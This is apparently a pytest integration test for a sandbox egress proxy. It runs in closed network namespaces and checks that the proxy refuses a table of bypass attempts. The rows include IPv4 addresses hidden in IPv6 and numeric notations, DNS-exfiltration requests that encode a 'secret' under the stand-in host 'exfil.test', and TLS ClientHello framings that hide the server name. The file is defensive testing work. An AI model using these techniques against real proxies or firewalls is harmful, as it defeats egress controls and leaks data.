"""Issue 32's egress holes as classes, tried against the real proxy process.

The proxy (`agent.pyz --net proxy`, here `sandkit.net.cli`) runs as a process of its own
in a network namespace this module makes, with its own resolv.conf, hosts file and
nsswitch.conf bound over the host's. Its only link is a veth pair to a second namespace
holding the test's servers: recording TCP servers that answer every chunk with
`SEEN <address>:<port>` (so a client knows which server its bytes reached) on the
addresses an attack aims at, and a DNS server that writes down every name it is asked.
Nothing else exists in either namespace, so no packet of an attack can leave them,
whatever the proxy decides. The "box" is this process, talking to the box's socket of
the proxy's state directory (a unix socket, which crosses namespaces).

The classes: an address rule matching an address in another form (item 2), a name
looked up that no name rule could allow (item 3), a TLS server name the proxy cannot
read as the server will (item 4). Each case is one row of ATTACKS: refused means an
HTTP 403/400 or a closed tunnel, no server reached and only the expected names asked.

Needs root (namespaces, veth); skips without it, and fails under CI=true.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import sandkit
from sandkit.net import state
from sandkit.net.cli import control
from sandkit.net.proxy import short_unix_path

from ..test_egress_proxy import (
    ECH,
    SNI,
    build_client_hello,
    handshake_bytes,
    hello_with,
    real_client_hello,
    reframe,
    server_name_extension,
)

BOUND_S = 30.0
PKG, OTHER, DNS = "10.77.0.10", "10.77.0.20", "10.77.0.53"
PROXY_V4, PROXY_V6, SERVERS_V6 = "10.77.0.1", "fd77::1", "fd77::2"
# IPv6 forms of the allowed 10.77.0.10 (and of the denied 10.77.0.20), each a server.
SIXTOFOUR = "2002:a4d:a::99"
NAT64 = "64:ff9b::a4d:a"
TEREDO = "2001:0:4136:e378:8000:63bf:f5b2:fff5"  # client 10.77.0.10 (XOR'd)
COMPATIBLE = "::a4d:a"
ISATAP_OF_OTHER = "fd77::5efe:a4d:14"
SIXTOFOUR_OF_OTHER = "2002:a4d:14::1"
V6_SERVERS = [SIXTOFOUR, NAT64, TEREDO, COMPATIBLE, ISATAP_OF_OTHER, SIXTOFOUR_OF_OTHER]
DNS_NAMES = {"pkg.test": [PKG], "other.test": [OTHER], "six.test": [SIXTOFOUR]}

SERVERS = r"""
import json, socket, sys, threading

log_path, table = sys.argv[1], json.loads(sys.argv[2])
v4, v6 = json.loads(sys.argv[3]), json.loads(sys.argv[4])
log = open(log_path, "a", buffering=1)

def serve(conn, where):
    with conn:
        conn.settimeout(60)
        try:
            while True:
                data = conn.recv(65536)
                if not data:
                    return
                conn.sendall(b"SEEN %s %d\n" % (where.encode(), len(data)))
        except OSError:
            return

def listen(family, address, port):
    sock = socket.socket(family)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((address, port))
    sock.listen(64)
    where = "%s:%d" % (address, port)
    def loop():
        while True:
            conn, _ = sock.accept()
            threading.Thread(target=serve, args=(conn, where), daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()

def dns(address):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, 53))
    def loop():
        while True:
            data, peer = sock.recvfrom(4096)
            pos, labels = 12, []
            while data[pos]:
                labels.append(data[pos + 1 : pos + 1 + data[pos]].decode("ascii", "replace"))
                pos += 1 + data[pos]
            qtype = int.from_bytes(data[pos + 1 : pos + 3], "big")
            question = data[12 : pos + 5]
            name = ".".join(labels).lower()
            log.write(json.dumps({"name": name, "type": qtype}) + "\n")
            log.flush()
            answers = []
            for text in table.get(name, []):
                family = socket.AF_INET6 if ":" in text else socket.AF_INET
                if (qtype == 28) == (family == socket.AF_INET6):
                    rdata = socket.inet_pton(family, text)
                    answers.append(b"\xc0\x0c" + qtype.to_bytes(2, "big") + b"\x00\x01"
                                   + (5).to_bytes(4, "big") + len(rdata).to_bytes(2, "big") + rdata)
            rcode = 0 if name in table else 3
            head = data[:2] + bytes([0x81, 0x80 | rcode]) + b"\x00\x01"
            head += len(answers).to_bytes(2, "big") + b"\x00\x00\x00\x00"
            sock.sendto(head + question + b"".join(answers), peer)
    threading.Thread(target=loop, daemon=True).start()

for address in v4:
    for port in (80, 443):
        listen(socket.AF_INET, address, port)
for address in v6:
    listen(socket.AF_INET6, address, 80)
dns(v4[-1])
print("ready", flush=True)
threading.Event().wait()
"""


def _run(*argv: str) -> None:
    subprocess.run(argv, check=True, capture_output=True, timeout=BOUND_S)


def _holder(*flags: str) -> subprocess.Popen[str]:
    """A process that only holds new namespaces (they end with it)."""
    proc = subprocess.Popen(
        ["unshare", *flags, "--", "sh", "-c", "echo ready; exec sleep infinity"],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    return proc


def _in(pid: int, *argv: str, mount: bool = False) -> list[str]:
    ns = [f"--net=/proc/{pid}/ns/net"] + ([f"--mount=/proc/{pid}/ns/mnt"] if mount else [])
    return ["nsenter", *ns, "--", *argv]


@dataclasses.dataclass
class Lab:
    root: Path
    dns_log: Path
    proxy_log: Path

    def policy(self, policy: dict[str, Any]) -> None:
        state.write_policy(self.root, "b1", policy)
        assert control(str(self.root), {"op": "sync"})["ok"]

    def queries(self) -> list[str]:
        with contextlib.suppress(FileNotFoundError):
            lines = self.dns_log.read_text().splitlines()
            return [json.loads(line)["name"] for line in lines if line]
        return []

    @contextlib.contextmanager
    def box(self) -> Iterator[socket.socket]:
        """A connection as the box makes it: to its socket in the proxy's state dir."""
        path = Path(state.box_dir(self.root, "b1"), state.EGRESS, state.SOCKET)
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(BOUND_S)
        short, done = short_unix_path(str(path))
        try:
            client.connect(short)
        finally:
            done()
        with client:
            yield client


def _lab_or_skip() -> None:
    missing = [tool for tool in ("unshare", "nsenter", "ip") if shutil.which(tool) is None]
    why = ""
    if os.geteuid() != 0:
        why = "needs root for network namespaces"
    elif missing:
        why = "needs " + ", ".join(missing)
    if why:
        if os.environ.get("CI") == "true":
            pytest.fail(why)
        pytest.skip(why)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    _lab_or_skip()
    work = tmp_path_factory.mktemp("egress-lab")
    servers_ns = _holder("--net")
    proxy_ns = _holder("--net", "--mount", "--propagation", "private")
    started: list[subprocess.Popen[Any]] = [servers_ns, proxy_ns]
    try:
        s, p = servers_ns.pid, proxy_ns.pid
        _run(
            *_in(
                p, "ip", "link", "add", "p0", "type", "veth", "peer", "name", "s0", "netns", str(s)
            )
        )
        for command in (
            "ip link set lo up",
            "ip link set p0 up",
            f"ip addr add {PROXY_V4}/24 dev p0",
            f"ip -6 addr add {PROXY_V6}/64 dev p0 nodad",
            f"ip -6 route add default via {SERVERS_V6} dev p0",
        ):
            _run(*_in(p, *command.split()))
        for command in (
            "ip link set lo up",
            "ip link set s0 up",
            *(f"ip addr add {a}/24 dev s0" for a in (PKG, OTHER, DNS)),
            f"ip -6 addr add {SERVERS_V6}/64 dev s0 nodad",
            *(f"ip -6 addr add {a}/128 dev s0 nodad" for a in V6_SERVERS),
        ):
            _run(*_in(s, *command.split()))
        # The proxy's resolver configuration: the lab's DNS server, and a search domain
        # with ndots that would try `<name>.corp.test` first for a relative name.
        etc = work / "etc"
        etc.mkdir()
        (etc / "resolv.conf").write_text(
            f"nameserver {DNS}\nsearch corp.test\noptions ndots:3 timeout:2 attempts:1\n"
        )
        (etc / "hosts").write_text("127.0.0.1 localhost\n::1 localhost\n")
        (etc / "nsswitch.conf").write_text("hosts: files dns\n")
        for name in ("resolv.conf", "hosts", "nsswitch.conf"):
            _run(*_in(p, "mount", "--bind", str(etc / name), f"/etc/{name}", mount=True))
        dns_log = work / "dns.log"
        servers = subprocess.Popen(
            _in(
                s,
                sys.executable,
                "-c",
                SERVERS,
                str(dns_log),
                json.dumps(DNS_NAMES),
                json.dumps([PKG, OTHER, DNS]),
                json.dumps(V6_SERVERS),
            ),
            stdout=subprocess.PIPE,
            text=True,
        )
        started.append(servers)
        assert servers.stdout is not None and servers.stdout.readline().strip() == "ready"
        root = work / "net"
        state.write_json(root / state.CONFIG, {"hosts": {"mirror.test": [PKG]}, "denied": []})
        Path(state.box_dir(root, "b1"), state.EGRESS).mkdir(parents=True)
        state.write_policy(root, "b1", {"mode": "none"})
        proxy_log = work / "proxy.log"
        # The proxy imports the sandkit this test imported (the work tree's).
        env = dict(os.environ, PYTHONPATH=str(Path(sandkit.__file__).parent.parent))
        with proxy_log.open("w") as log:
            proxy = subprocess.Popen(
                _in(
                    p,
                    sys.executable,
                    "-c",
                    "import sys; from sandkit.net.cli import main; sys.exit(main(sys.argv[1:]))",
                    "proxy",
                    "--root",
                    str(root),
                    mount=True,
                ),
                stderr=log,
                env=env,
            )
        started.append(proxy)
        deadline = time.monotonic() + BOUND_S
        while not (root / state.CONTROL).exists():
            assert proxy.poll() is None, proxy_log.read_text()
            assert time.monotonic() < deadline, "the proxy did not start"
            time.sleep(0.05)
        assert control(str(root), {"op": "ping"})["ok"]
        yield Lab(root, dns_log, proxy_log)
    finally:
        for proc in reversed(started):
            proc.kill()
            proc.wait(BOUND_S)


# -- the attacks ----------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attempt: `request` is a proxy request; for a CONNECT that the proxy accepts,
    `payload` is sent through the tunnel. `reach` is the one server it may reach (None:
    none) and `names` the names the proxy may ask the DNS server about."""

    klass: str
    case: str
    policy: dict[str, Any]
    request: bytes
    payload: bytes = b""
    reach: str | None = None
    names: tuple[str, ...] = ()
    end: bool = False  # the box ends its side after the payload


CIDR_ONLY = {"mode": "allow", "allow": [f"{PKG}/32:*"]}
EVERY_FORM_DENIED = {
    "mode": "open",
    "allow": ["0.0.0.0/0:*", "[::/0]:*"],
    "deny": [f"{OTHER}/32"],
}
NAMES_AND_CIDR = {"mode": "allow", "allow": ["pkg.test", "10.77.0.0/24:*"]}
SECRET = "c2VjcmV0LWRhdGE"


def connect(target: str) -> bytes:
    return b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target.encode(), target.encode())


def get(url: str, host: str) -> bytes:
    return b"GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (url.encode(), host.encode())


OTHER_HELLO = handshake_bytes(real_client_hello("other.test"))

ATTACKS = [
    # Item 2: an IPv4 allow rule and IPv6 addresses that embed its address.
    *(
        Attack("address forms", f"CONNECT {form}", CIDR_ONLY, connect(f"[{address}]:80"), b"x")
        for form, address in (
            ("6to4", SIXTOFOUR),
            ("nat64", NAT64),
            ("teredo", TEREDO),
            ("ipv4-compatible", COMPATIBLE),
            ("ipv4-mapped", f"::ffff:{PKG}"),
            ("ipv4-mapped hex", "::ffff:a4d:a"),
        )
    ),
    Attack("address forms", "GET 6to4", CIDR_ONLY, get(f"http://[{SIXTOFOUR}]/", "x")),
    Attack("address forms", "Host 6to4", CIDR_ONLY, get("/", f"[{SIXTOFOUR}]")),
    *(
        Attack("address forms", f"notation {target}", CIDR_ONLY, connect(target), b"x")
        for target in (
            f"[{PKG}]:80",
            "[fe80::1%25s0]:80",
            f"[::ffff:{PKG}%25s0]:80",
            "0x0a4d000a:80",
            "167575562:80",
            "10.77.10:80",
            "0x0a.0x4d.0.0x0a:80",
            f"{PKG}.:80",
        )
    ),
    Attack(
        "address forms",
        "name to 6to4",
        {"mode": "allow", "allow": ["six.test:*", f"{PKG}/32:*"]},
        connect("six.test:80"),
        b"x",
        names=("six.test",),
    ),
    # Deny rules see every form of the address they name.
    *(
        Attack("address forms", f"deny {form}", EVERY_FORM_DENIED, connect(f"[{a}]:80"), b"x")
        for form, a in (("isatap", ISATAP_OF_OTHER), ("6to4", SIXTOFOUR_OF_OTHER))
    ),
    # Item 3: names that no name rule allows are never looked up.
    Attack("dns", "CONNECT", NAMES_AND_CIDR, connect(f"{SECRET}.exfil.test:80"), b"x"),
    Attack("dns", "GET", NAMES_AND_CIDR, get(f"http://{SECRET}.exfil.test/", "x")),
    Attack("dns", "Host", NAMES_AND_CIDR, get("/", f"{SECRET}.exfil.test")),
    Attack("dns", "userinfo", NAMES_AND_CIDR, get(f"http://u@{SECRET}.exfil.test/", "x")),
    Attack("dns", "other port", NAMES_AND_CIDR, connect("pkg.test:22"), b"x"),
    Attack(
        "dns",
        "cidr only",
        {"mode": "allow", "allow": ["10.0.0.0/8:*"]},
        connect(f"{SECRET}.exfil.test:443"),
        b"x",
    ),
    Attack(
        "dns",
        "server name",
        NAMES_AND_CIDR,
        connect("pkg.test:443"),
        real_client_hello(f"{SECRET}.exfil.test"),
        names=("pkg.test",),
    ),
    # Item 4: the TLS server name, however the hello is framed or dressed.
    *(
        Attack(
            "tls",
            case,
            NAMES_AND_CIDR,
            connect("pkg.test:443"),
            payload,
            names=("pkg.test",),
        )
        for case, payload in (
            ("one record", reframe(OTHER_HELLO)),
            ("10-byte record", reframe(OTHER_HELLO, (10,))),
            ("1-byte records", reframe(OTHER_HELLO, (1,) * 8)),
            ("alert first", b"\x15\x03\x03\x00\x02\x01\x5a" + reframe(OTHER_HELLO)),
            ("ccs first", b"\x14\x03\x03\x00\x01\x01" + reframe(OTHER_HELLO)),
            ("garbage record", b"\x16\x03\x01\x00\x05hello"),
            ("ip address as name", hello_with((SNI, server_name_extension(OTHER)))),
            ("proxy protocol", b"PROXY TCP4 10.0.0.1 10.0.0.2 1 443\r\n" + reframe(OTHER_HELLO)),
            ("two names", hello_with((SNI, server_name_extension("pkg.test", "other.test")))),
            (
                "two extensions",
                hello_with(
                    (SNI, server_name_extension("pkg.test")),
                    (SNI, server_name_extension("other.test")),
                ),
            ),
            ("ech", hello_with((SNI, server_name_extension("pkg.test")), (ECH, b"\x00" * 32))),
            ("no name", reframe(build_client_hello(None))),
            ("over 64 KiB", reframe(b"\x01\x01\x11\x70" + b"\x00" * 70000, (16000,) * 5)),
            ("sslv2", b"\x80\x2e\x01\x03\x01" + b"\x00" * 45),
        )
    ),
    Attack(
        "tls",
        "truncated",
        NAMES_AND_CIDR,
        connect("pkg.test:443"),
        reframe(OTHER_HELLO)[:-1],
        names=("pkg.test",),
        end=True,
    ),
    Attack(
        "tls",
        "denied name to an allowed address",
        {"mode": "open", "allow": ["10.77.0.0/24:*"], "deny": ["other.test"]},
        connect(f"{PKG}:443"),
        reframe(OTHER_HELLO),
    ),
]


def _status(head: bytes) -> int:
    parts = head.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


def _read_answer(sock: socket.socket) -> bytes:
    data = b""
    with contextlib.suppress(ConnectionError):
        while b"SEEN" not in data and (chunk := sock.recv(65536)):
            data += chunk
    return data


def attempt(lab: Lab, attack: Attack) -> tuple[int, str | None, list[str]]:
    """(the proxy's status, the server reached or None, the names the DNS server saw)."""
    lab.policy(attack.policy)
    before = len(lab.queries())
    with lab.box() as sock:
        sock.sendall(attack.request)
        head = b""
        while b"\r\n\r\n" not in head and (chunk := sock.recv(1)):
            head += chunk
        status = _status(head)
        answer = b""
        if status == 200:
            with contextlib.suppress(ConnectionError):
                sock.sendall(attack.payload)
                if attack.end:
                    sock.shutdown(socket.SHUT_WR)
            answer = _read_answer(sock)
        else:
            answer = _read_answer(sock)
    reached = None
    if b"SEEN " in answer:
        reached = answer.split(b"SEEN ", 1)[1].split(b" ", 1)[0].decode()
        reached = reached.rsplit(":", 1)[0]
    return status, reached, lab.queries()[before:]


@pytest.mark.parametrize("attack", ATTACKS, ids=[f"{a.klass}: {a.case}" for a in ATTACKS])
def test_egress_attack_is_refused(lab: Lab, attack: Attack) -> None:
    status, reached, asked = attempt(lab, attack)
    assert reached == attack.reach, (status, reached, lab.proxy_log.read_text()[-2000:])
    assert status in (200, 400, 403), status
    assert set(asked) <= set(attack.names), asked


# -- what works, and what a non-TLS tunnel is held to ------------------------------------


def test_allowed_destinations_work_and_names_are_asked_exactly(lab: Lab) -> None:
    """The controls: the allowed address, name and hello reach their server; a name is
    asked as itself (never `<name>.corp.test` from the search list first)."""
    status, reached, asked = attempt(lab, Attack("", "", CIDR_ONLY, connect(f"{PKG}:80"), b"x"))
    assert (status, reached, asked) == (200, PKG, [])
    hello = reframe(handshake_bytes(real_client_hello("pkg.test")), (10,))
    for payload in (hello, b"SSH-2.0-OpenSSH_9.2\r\n"):
        control_case = Attack("", "", NAMES_AND_CIDR, connect("pkg.test:443"), payload)
        status, reached, asked = attempt(lab, control_case)
        assert (status, reached) == (200, PKG)
        assert asked and set(asked) == {"pkg.test"}, asked
    mirror = Attack("", "", NAMES_AND_CIDR, connect("mirror.test:80"), b"x")
    assert attempt(lab, mirror) == (200, PKG, [])  # the hosts table: nothing asked
    six = Attack(
        "", "", {"mode": "allow", "allow": ["[2002::/16]:*"]}, connect(f"[{SIXTOFOUR}]:80")
    )
    assert attempt(lab, dataclasses.replace(six, payload=b"x"))[:2] == (200, SIXTOFOUR)


def test_a_plain_tunnel_is_held_to_its_destination_only(lab: Lab) -> None:
    """CONNECT to a non-TLS port passes the bytes unread: an HTTP request naming another
    host in its Host header (or an HTTP/2 preface) reaches the CONNECT host's server and
    no other, as an HTTP request inside TLS does (network.md, "Limits")."""
    for payload in (
        b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ):
        case = Attack("", "", NAMES_AND_CIDR, connect("pkg.test:80"), payload)
        assert attempt(lab, case)[:2] == (200, PKG)
